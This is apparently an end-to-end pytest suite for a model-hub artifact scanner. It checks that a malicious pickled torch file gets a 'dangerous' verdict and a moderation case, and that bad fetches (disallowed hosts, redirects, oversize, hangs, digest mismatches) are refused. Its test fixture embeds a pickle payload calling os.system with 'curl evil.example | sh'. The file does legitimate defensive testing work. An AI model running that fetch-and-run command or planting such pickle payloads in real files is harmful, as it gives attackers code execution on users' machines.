"""Artifact scanning end to end: the hub syncs files with urls, a real worker on scanning's own
queue downloads them from a real HTTP server on 127.0.0.1 and analyses them, the verdict opens an
automated case, and the hub receives a signed `scan.completed` through the outbox."""

from __future__ import annotations

import hashlib
import time
from collections.abc import Iterator

import httpx
import pytest
from django.conf import settings as django_settings

from devtools.hub_files import HubFiles
from hub.models import HubKey
from scanning.models import FileScan
from tests.e2e.conftest import Worker
from tests.factories import moderator
from tests.scanning import corpus

pytestmark = pytest.mark.integration

DANGEROUS = corpus.torch_zip(corpus.pickle_call(2, "os", "system", "curl evil.example | sh"))
WEIGHTS = corpus.safetensors_valid()
MAX_FILE_BYTES = 1_000_000
FINAL = {"clean", "skipped", "error", "suspicious", "dangerous"}


@pytest.fixture(scope="module")
def file_server() -> Iterator[HubFiles]:
    server = HubFiles()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def scan_worker(worker_env, file_server, tmp_path_factory) -> Iterator[Worker]:
    """A worker on scanning's own queue, as production runs one, allowed to fetch from the file server."""
    env = {
        **worker_env,
        "SCAN_FETCH_ALLOWED_HOSTS": file_server.netloc,
        "SCAN_MAX_FILE_BYTES": str(MAX_FILE_BYTES),
        "SCAN_FETCH_TIMEOUT_SECONDS": "5",
        "SCAN_FETCH_READ_TIMEOUT_SECONDS": "1",
    }
    log = tmp_path_factory.mktemp("scan-worker") / "worker.log"
    worker = Worker(env, log, queue=django_settings.SCAN_QUEUE).start()
    yield worker
    worker.stop()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def hub(base: str) -> httpx.Client:
    _, key = HubKey.objects.create_key(name="e2e hub")
    return httpx.Client(base_url=base, headers={"Authorization": f"Bearer {key}"}, timeout=30)


def sync(client: httpx.Client, name: str, files: list[dict]) -> None:
    body = {"kind": "model", "revision": "0123abcd", "files": files}
    response = client.put(f"/api/v1/hub/repositories/acme/{name}", json=body)
    assert response.status_code in (200, 201), response.text


def verdicts_when_final(sha256s: list[str], timeout: float = 60) -> dict[str, FileScan]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        scans = {s.sha256: s for s in FileScan.objects.filter(sha256__in=sha256s)}
        if len(scans) == len(set(sha256s)) and all(s.verdict in FINAL for s in scans.values()):
            return scans
        time.sleep(0.2)
    raise TimeoutError(f"Verdicts not final in {timeout} s: {list(FileScan.objects.values('sha256', 'verdict'))}")


def test_a_dangerous_file_becomes_a_case_in_the_queue_and_a_signed_scan_completed(
    real_parts, scan_worker, file_server, integration_hub
):
    client = hub(real_parts)
    sync(client, "evil", [
        {"path": "pytorch_model.bin", "sha256": sha(DANGEROUS), "size": len(DANGEROUS),
         "url": file_server.serve("/evil/pytorch_model.bin", DANGEROUS)},
        {"path": "model.safetensors", "sha256": sha(WEIGHTS), "size": len(WEIGHTS),
         "url": file_server.serve("/evil/model.safetensors", WEIGHTS)},
    ])  # fmt: skip

    scans = verdicts_when_final([sha(DANGEROUS), sha(WEIGHTS)])
    assert (scans[sha(DANGEROUS)].verdict, scans[sha(WEIGHTS)].verdict) == ("dangerous", "clean")

    [completed] = integration_hub.wait_for(
        lambda d: d.payload["type"] == "scan.completed" and d.payload["subject"]["id"] == "acme/evil"
    )
    assert completed.verified
    assert completed.payload["verdict"] == "dangerous"
    assert {(f["path"], f["verdict"]) for f in completed.payload["files"]} == {
        ("pytorch_model.bin", "dangerous"), ("model.safetensors", "clean")
    }  # fmt: skip

    from hubmod.staff.models import StaffToken

    _, token = StaffToken.objects.create_key(name="e2e", user=moderator())
    staff = httpx.Client(base_url=real_parts, headers={"Authorization": f"Bearer {token}"}, timeout=30)
    queue = staff.get("/api/v1/cases", params={"scan_verdict": "dangerous"}).json()["results"]
    assert [(c["category"], c["subject"]["id"]) for c in queue] == [("malicious_code", "acme/evil")]
    repository = client.get("/api/v1/hub/repositories/acme/evil").json()
    assert repository["scan"]["verdict"] == "dangerous"

    # The same bytes under another repository: its own case at once, and nothing fetched again.
    fetched = dict(file_server.requests)
    sync(client, "copy", [{"path": "model.bin", "sha256": sha(DANGEROUS), "size": len(DANGEROUS),
                           "url": file_server.serve("/copy/model.bin", DANGEROUS)}])  # fmt: skip
    integration_hub.wait_for(
        lambda d: d.payload["type"] == "scan.completed" and d.payload["subject"]["id"] == "acme/copy"
    )
    assert file_server.requests == fetched
    queue = staff.get("/api/v1/cases", params={"scan_verdict": "dangerous"}).json()["results"]
    assert sorted(c["subject"]["id"] for c in queue) == ["acme/copy", "acme/evil"]


def test_each_file_that_cannot_be_fetched_gets_a_verdict_that_says_why_and_the_worker_carries_on(
    real_parts, scan_worker, file_server
):
    def entry(path: str, data: bytes, url: str, size: int | None = None) -> dict:
        return {"path": path, "sha256": sha(data), "size": len(data) if size is None else size, "url": url}

    elsewhere = f"http://localhost:{file_server.port}/bad/elsewhere.bin"
    cases = {
        "not-allowed.bin": (b"host not allowed", elsewhere, None),
        "redirected.bin": (b"redirect to a host not allowed", file_server.redirect("/bad/redirect", elsewhere), None),
        "too-large.bin": (b"declared over the cap", file_server.serve("/bad/large", b"x"), MAX_FILE_BYTES + 1),
        "hangs.bin": (b"a server that hangs", file_server.hang("/bad/hang", seconds=8), 1000),
        "lies.bin": (b"what the hub declared", file_server.serve("/bad/lies", b"what the server sends"), None),
    }
    sync(hub(real_parts), "bad", [entry(path, data, url, size) for path, (data, url, size) in cases.items()])

    scans = verdicts_when_final([sha(data) for data, _, _ in cases.values()], timeout=90)
    said = {path: (scans[sha(data)].verdict, scans[sha(data)].reason) for path, (data, _, _) in cases.items()}

    expected = {  # the verdict, and how its reason starts
        "not-allowed.bin": ("error", "host not allowed"),
        "redirected.bin": ("error", "redirect refused"),
        "too-large.bin": ("skipped", "too large"),
        "hangs.bin": ("error", "timed out"),
        "lies.bin": ("error", "digest mismatch"),
    }
    assert {path: (verdict, reason[: len(expected[path][1])]) for path, (verdict, reason) in said.items()} == expected
    assert file_server.requests.get("/bad/large", 0) == 0  # refused before a byte was asked for
    assert file_server.requests.get("/bad/elsewhere.bin", 0) == 0
    assert scan_worker.process.poll() is None  # no crash: the worker is still serving
